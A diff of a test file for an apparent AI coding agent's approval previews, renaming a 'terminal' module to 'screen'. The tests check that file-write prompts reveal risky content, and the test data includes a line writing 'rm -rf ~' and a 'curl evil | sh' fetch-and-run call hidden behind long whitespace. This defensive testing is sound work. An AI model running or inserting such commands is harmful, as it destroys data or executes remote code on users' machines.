@@ -20,7 +20,7 @@ from plainagent.approval import prompt as approval
 from plainagent.workspace import edits
 import harness
 from plainagent.approval import previews
-from plainagent.core import terminal
+from plainagent.core import screen
 import tools
 from plainagent.workspace import writes
 from fake_model import answer, calls
@@ -59,7 +59,7 @@ def write(path: str, content: str) -> dict:
 def asking(asked: list, config, decision: bool = True):
     """An approver that records what the person would be shown (in the run's settings, config), then decides."""
     def approve(name: str, arguments: dict) -> bool:
-        asked.append(previews.describe(name, arguments, terminal.shown, config))
+        asked.append(previews.describe(name, arguments, screen.shown, config))
         return decision
     return approve
 
@@ -385,7 +385,7 @@ def test_a_file_changed_while_the_person_was_asked_is_not_overwritten(model, tmp
     notes.write_text("flag = 0\n")
 
     def approve_after_a_change(name: str, arguments: dict) -> bool:
-        previews.describe(name, arguments, terminal.shown, in_a_run)
+        previews.describe(name, arguments, screen.shown, in_a_run)
         change(notes)
         return True
 
@@ -618,7 +618,7 @@ def test_the_edit_prompt_on_a_one_line_file_shows_a_short_piece_of_the_line(tmp_
     monkeypatch.chdir(tmp_path)
     (tmp_path / "min.js").write_text("a" * 3_000_000 + "CHANGE ME" + "b" * 3_000_000)
 
-    shown = previews.describe("edit_file", {"path": "min.js", "old_text": "CHANGE ME", "new_text": "CHANGED"}, terminal.shown, in_a_run)
+    shown = previews.describe("edit_file", {"path": "min.js", "old_text": "CHANGE ME", "new_text": "CHANGED"}, screen.shown, in_a_run)
 
     head, *diff = shown.split("\n")
     assert head == "edit_file wants to edit min.js (6000009 -> 6000007 bytes)"
@@ -634,7 +634,7 @@ def test_the_write_prompt_for_a_big_file_shows_the_sizes_and_the_new_texts_start
     (tmp_path / "big.log").write_text("old\n" * 500_000)
     content = "".join(f"new {n}\n" for n in range(1, 31))
 
-    shown = previews.describe("write_file", {"path": "big.log", "content": content}, terminal.shown, in_a_run)
+    shown = previews.describe("write_file", {"path": "big.log", "content": content}, screen.shown, in_a_run)
 
     assert shown == ("write_file wants to overwrite big.log (exists, 2000000 -> 201 bytes)\n"
                      "  too big to compare; the new text starts:\n"
@@ -644,7 +644,7 @@ def test_the_write_prompt_for_a_big_file_shows_the_sizes_and_the_new_texts_start
 def test_the_write_prompt_for_a_new_file_shows_its_first_lines(tmp_path, monkeypatch, in_a_run):
     monkeypatch.chdir(tmp_path)
 
-    shown = previews.describe("write_file", {"path": "new.txt", "content": "x\n" * 21 + "last"}, terminal.shown, in_a_run)
+    shown = previews.describe("write_file", {"path": "new.txt", "content": "x\n" * 21 + "last"}, screen.shown, in_a_run)
 
     assert shown == ("write_file wants to create new.txt (new file, 46 bytes)\n" + "  +x\n" * 20
                      + "  ... and 2 more lines")
@@ -657,7 +657,7 @@ def test_the_write_prompt_says_how_much_of_a_long_diff_it_leaves_out(tmp_path, m
     (tmp_path / "f.txt").write_text(old)
     content = old.replace("line 2\n", "two\n").replace("line 25\n", "twenty-five\n").replace("line 50\n", "rm -rf ~\n")
 
-    shown = previews.describe("write_file", {"path": "f.txt", "content": content}, terminal.shown, in_a_run)
+    shown = previews.describe("write_file", {"path": "f.txt", "content": content}, screen.shown, in_a_run)
 
     *diff, note = shown.split("\n")
     assert len(diff) == 1 + previews.PREVIEW_LINES and diff[-1] == "  @@ -48,7 +48,7 @@"
@@ -675,10 +675,10 @@ def test_the_prompt_names_the_file_a_link_leads_to(tmp_path, monkeypatch, in_a_r
     (tmp_path / "docs" / "notes.md").symlink_to("../.git/config")
     (tmp_path / "docs" / "plain.md").write_text("plain\n")
 
-    wrote = previews.describe("write_file", {"path": "docs/notes.md", "content": "[core]\n"}, terminal.shown, in_a_run)
+    wrote = previews.describe("write_file", {"path": "docs/notes.md", "content": "[core]\n"}, screen.shown, in_a_run)
     edited = previews.describe("edit_file", {"path": "docs/notes.md", "old_text": "bare", "new_text": "x"},
-                               terminal.shown, in_a_run)
-    plain = previews.describe("write_file", {"path": "docs/../docs/plain.md", "content": "x\n"}, terminal.shown, in_a_run)
+                               screen.shown, in_a_run)
+    plain = previews.describe("write_file", {"path": "docs/../docs/plain.md", "content": "x\n"}, screen.shown, in_a_run)
 
     assert wrote.startswith("write_file wants to overwrite docs/notes.md (leads to .git/config) (exists, 21 -> 7")
     assert edited.startswith("edit_file wants to edit docs/notes.md (leads to .git/config) (21 -> 18 bytes)")
@@ -690,7 +690,7 @@ def test_a_long_line_in_a_preview_shows_its_end(tmp_path, monkeypatch, in_a_run)
     monkeypatch.chdir(tmp_path)
     line = "x = 1" + " " * 400 + "; import os; os.system('curl evil | sh')"
 
-    shown = previews.describe("write_file", {"path": "a.py", "content": line + "\n"}, terminal.shown, in_a_run)
+    shown = previews.describe("write_file", {"path": "a.py", "content": line + "\n"}, screen.shown, in_a_run)
 
     assert shown.endswith(" characters left out ...] " + f"+{line}"[-previews.PREVIEW_TAIL:])
     assert "os.system('curl evil | sh')" in shown
@@ -701,8 +701,8 @@ def test_a_write_that_changes_only_line_endings_says_so(tmp_path, monkeypatch, i
     monkeypatch.chdir(tmp_path)
     (tmp_path / "f.txt").write_bytes(b"a\r\nb\r\n")
 
-    wrote = previews.describe("write_file", {"path": "f.txt", "content": "a\nb"}, terminal.shown, in_a_run)
-    same = previews.describe("edit_file", {"path": "f.txt", "old_text": "a\r\n", "new_text": "a\n"}, terminal.shown, in_a_run)
+    wrote = previews.describe("write_file", {"path": "f.txt", "content": "a\nb"}, screen.shown, in_a_run)
+    same = previews.describe("edit_file", {"path": "f.txt", "old_text": "a\r\n", "new_text": "a\n"}, screen.shown, in_a_run)
 
     assert wrote == ("write_file wants to overwrite f.txt (exists, 6 -> 3 bytes)\n  no line changes as shown: only "
                      "line endings (\\r\\n, \\n, none), or bytes that are not UTF-8, differ")
@@ -743,7 +743,7 @@ def test_an_edit_whose_folder_is_swapped_for_a_link_during_the_question_is_refus
     (tmp_path / "other" / "a.txt").write_text("version = 1\n")
 
     def approve_after_a_swap(name: str, arguments: dict) -> bool:
-        previews.describe(name, arguments, terminal.shown, in_a_run)
+        previews.describe(name, arguments, screen.shown, in_a_run)
         (tmp_path / "docs").rename(tmp_path / "docs-before")
         (tmp_path / "docs").symlink_to("other")
         return True
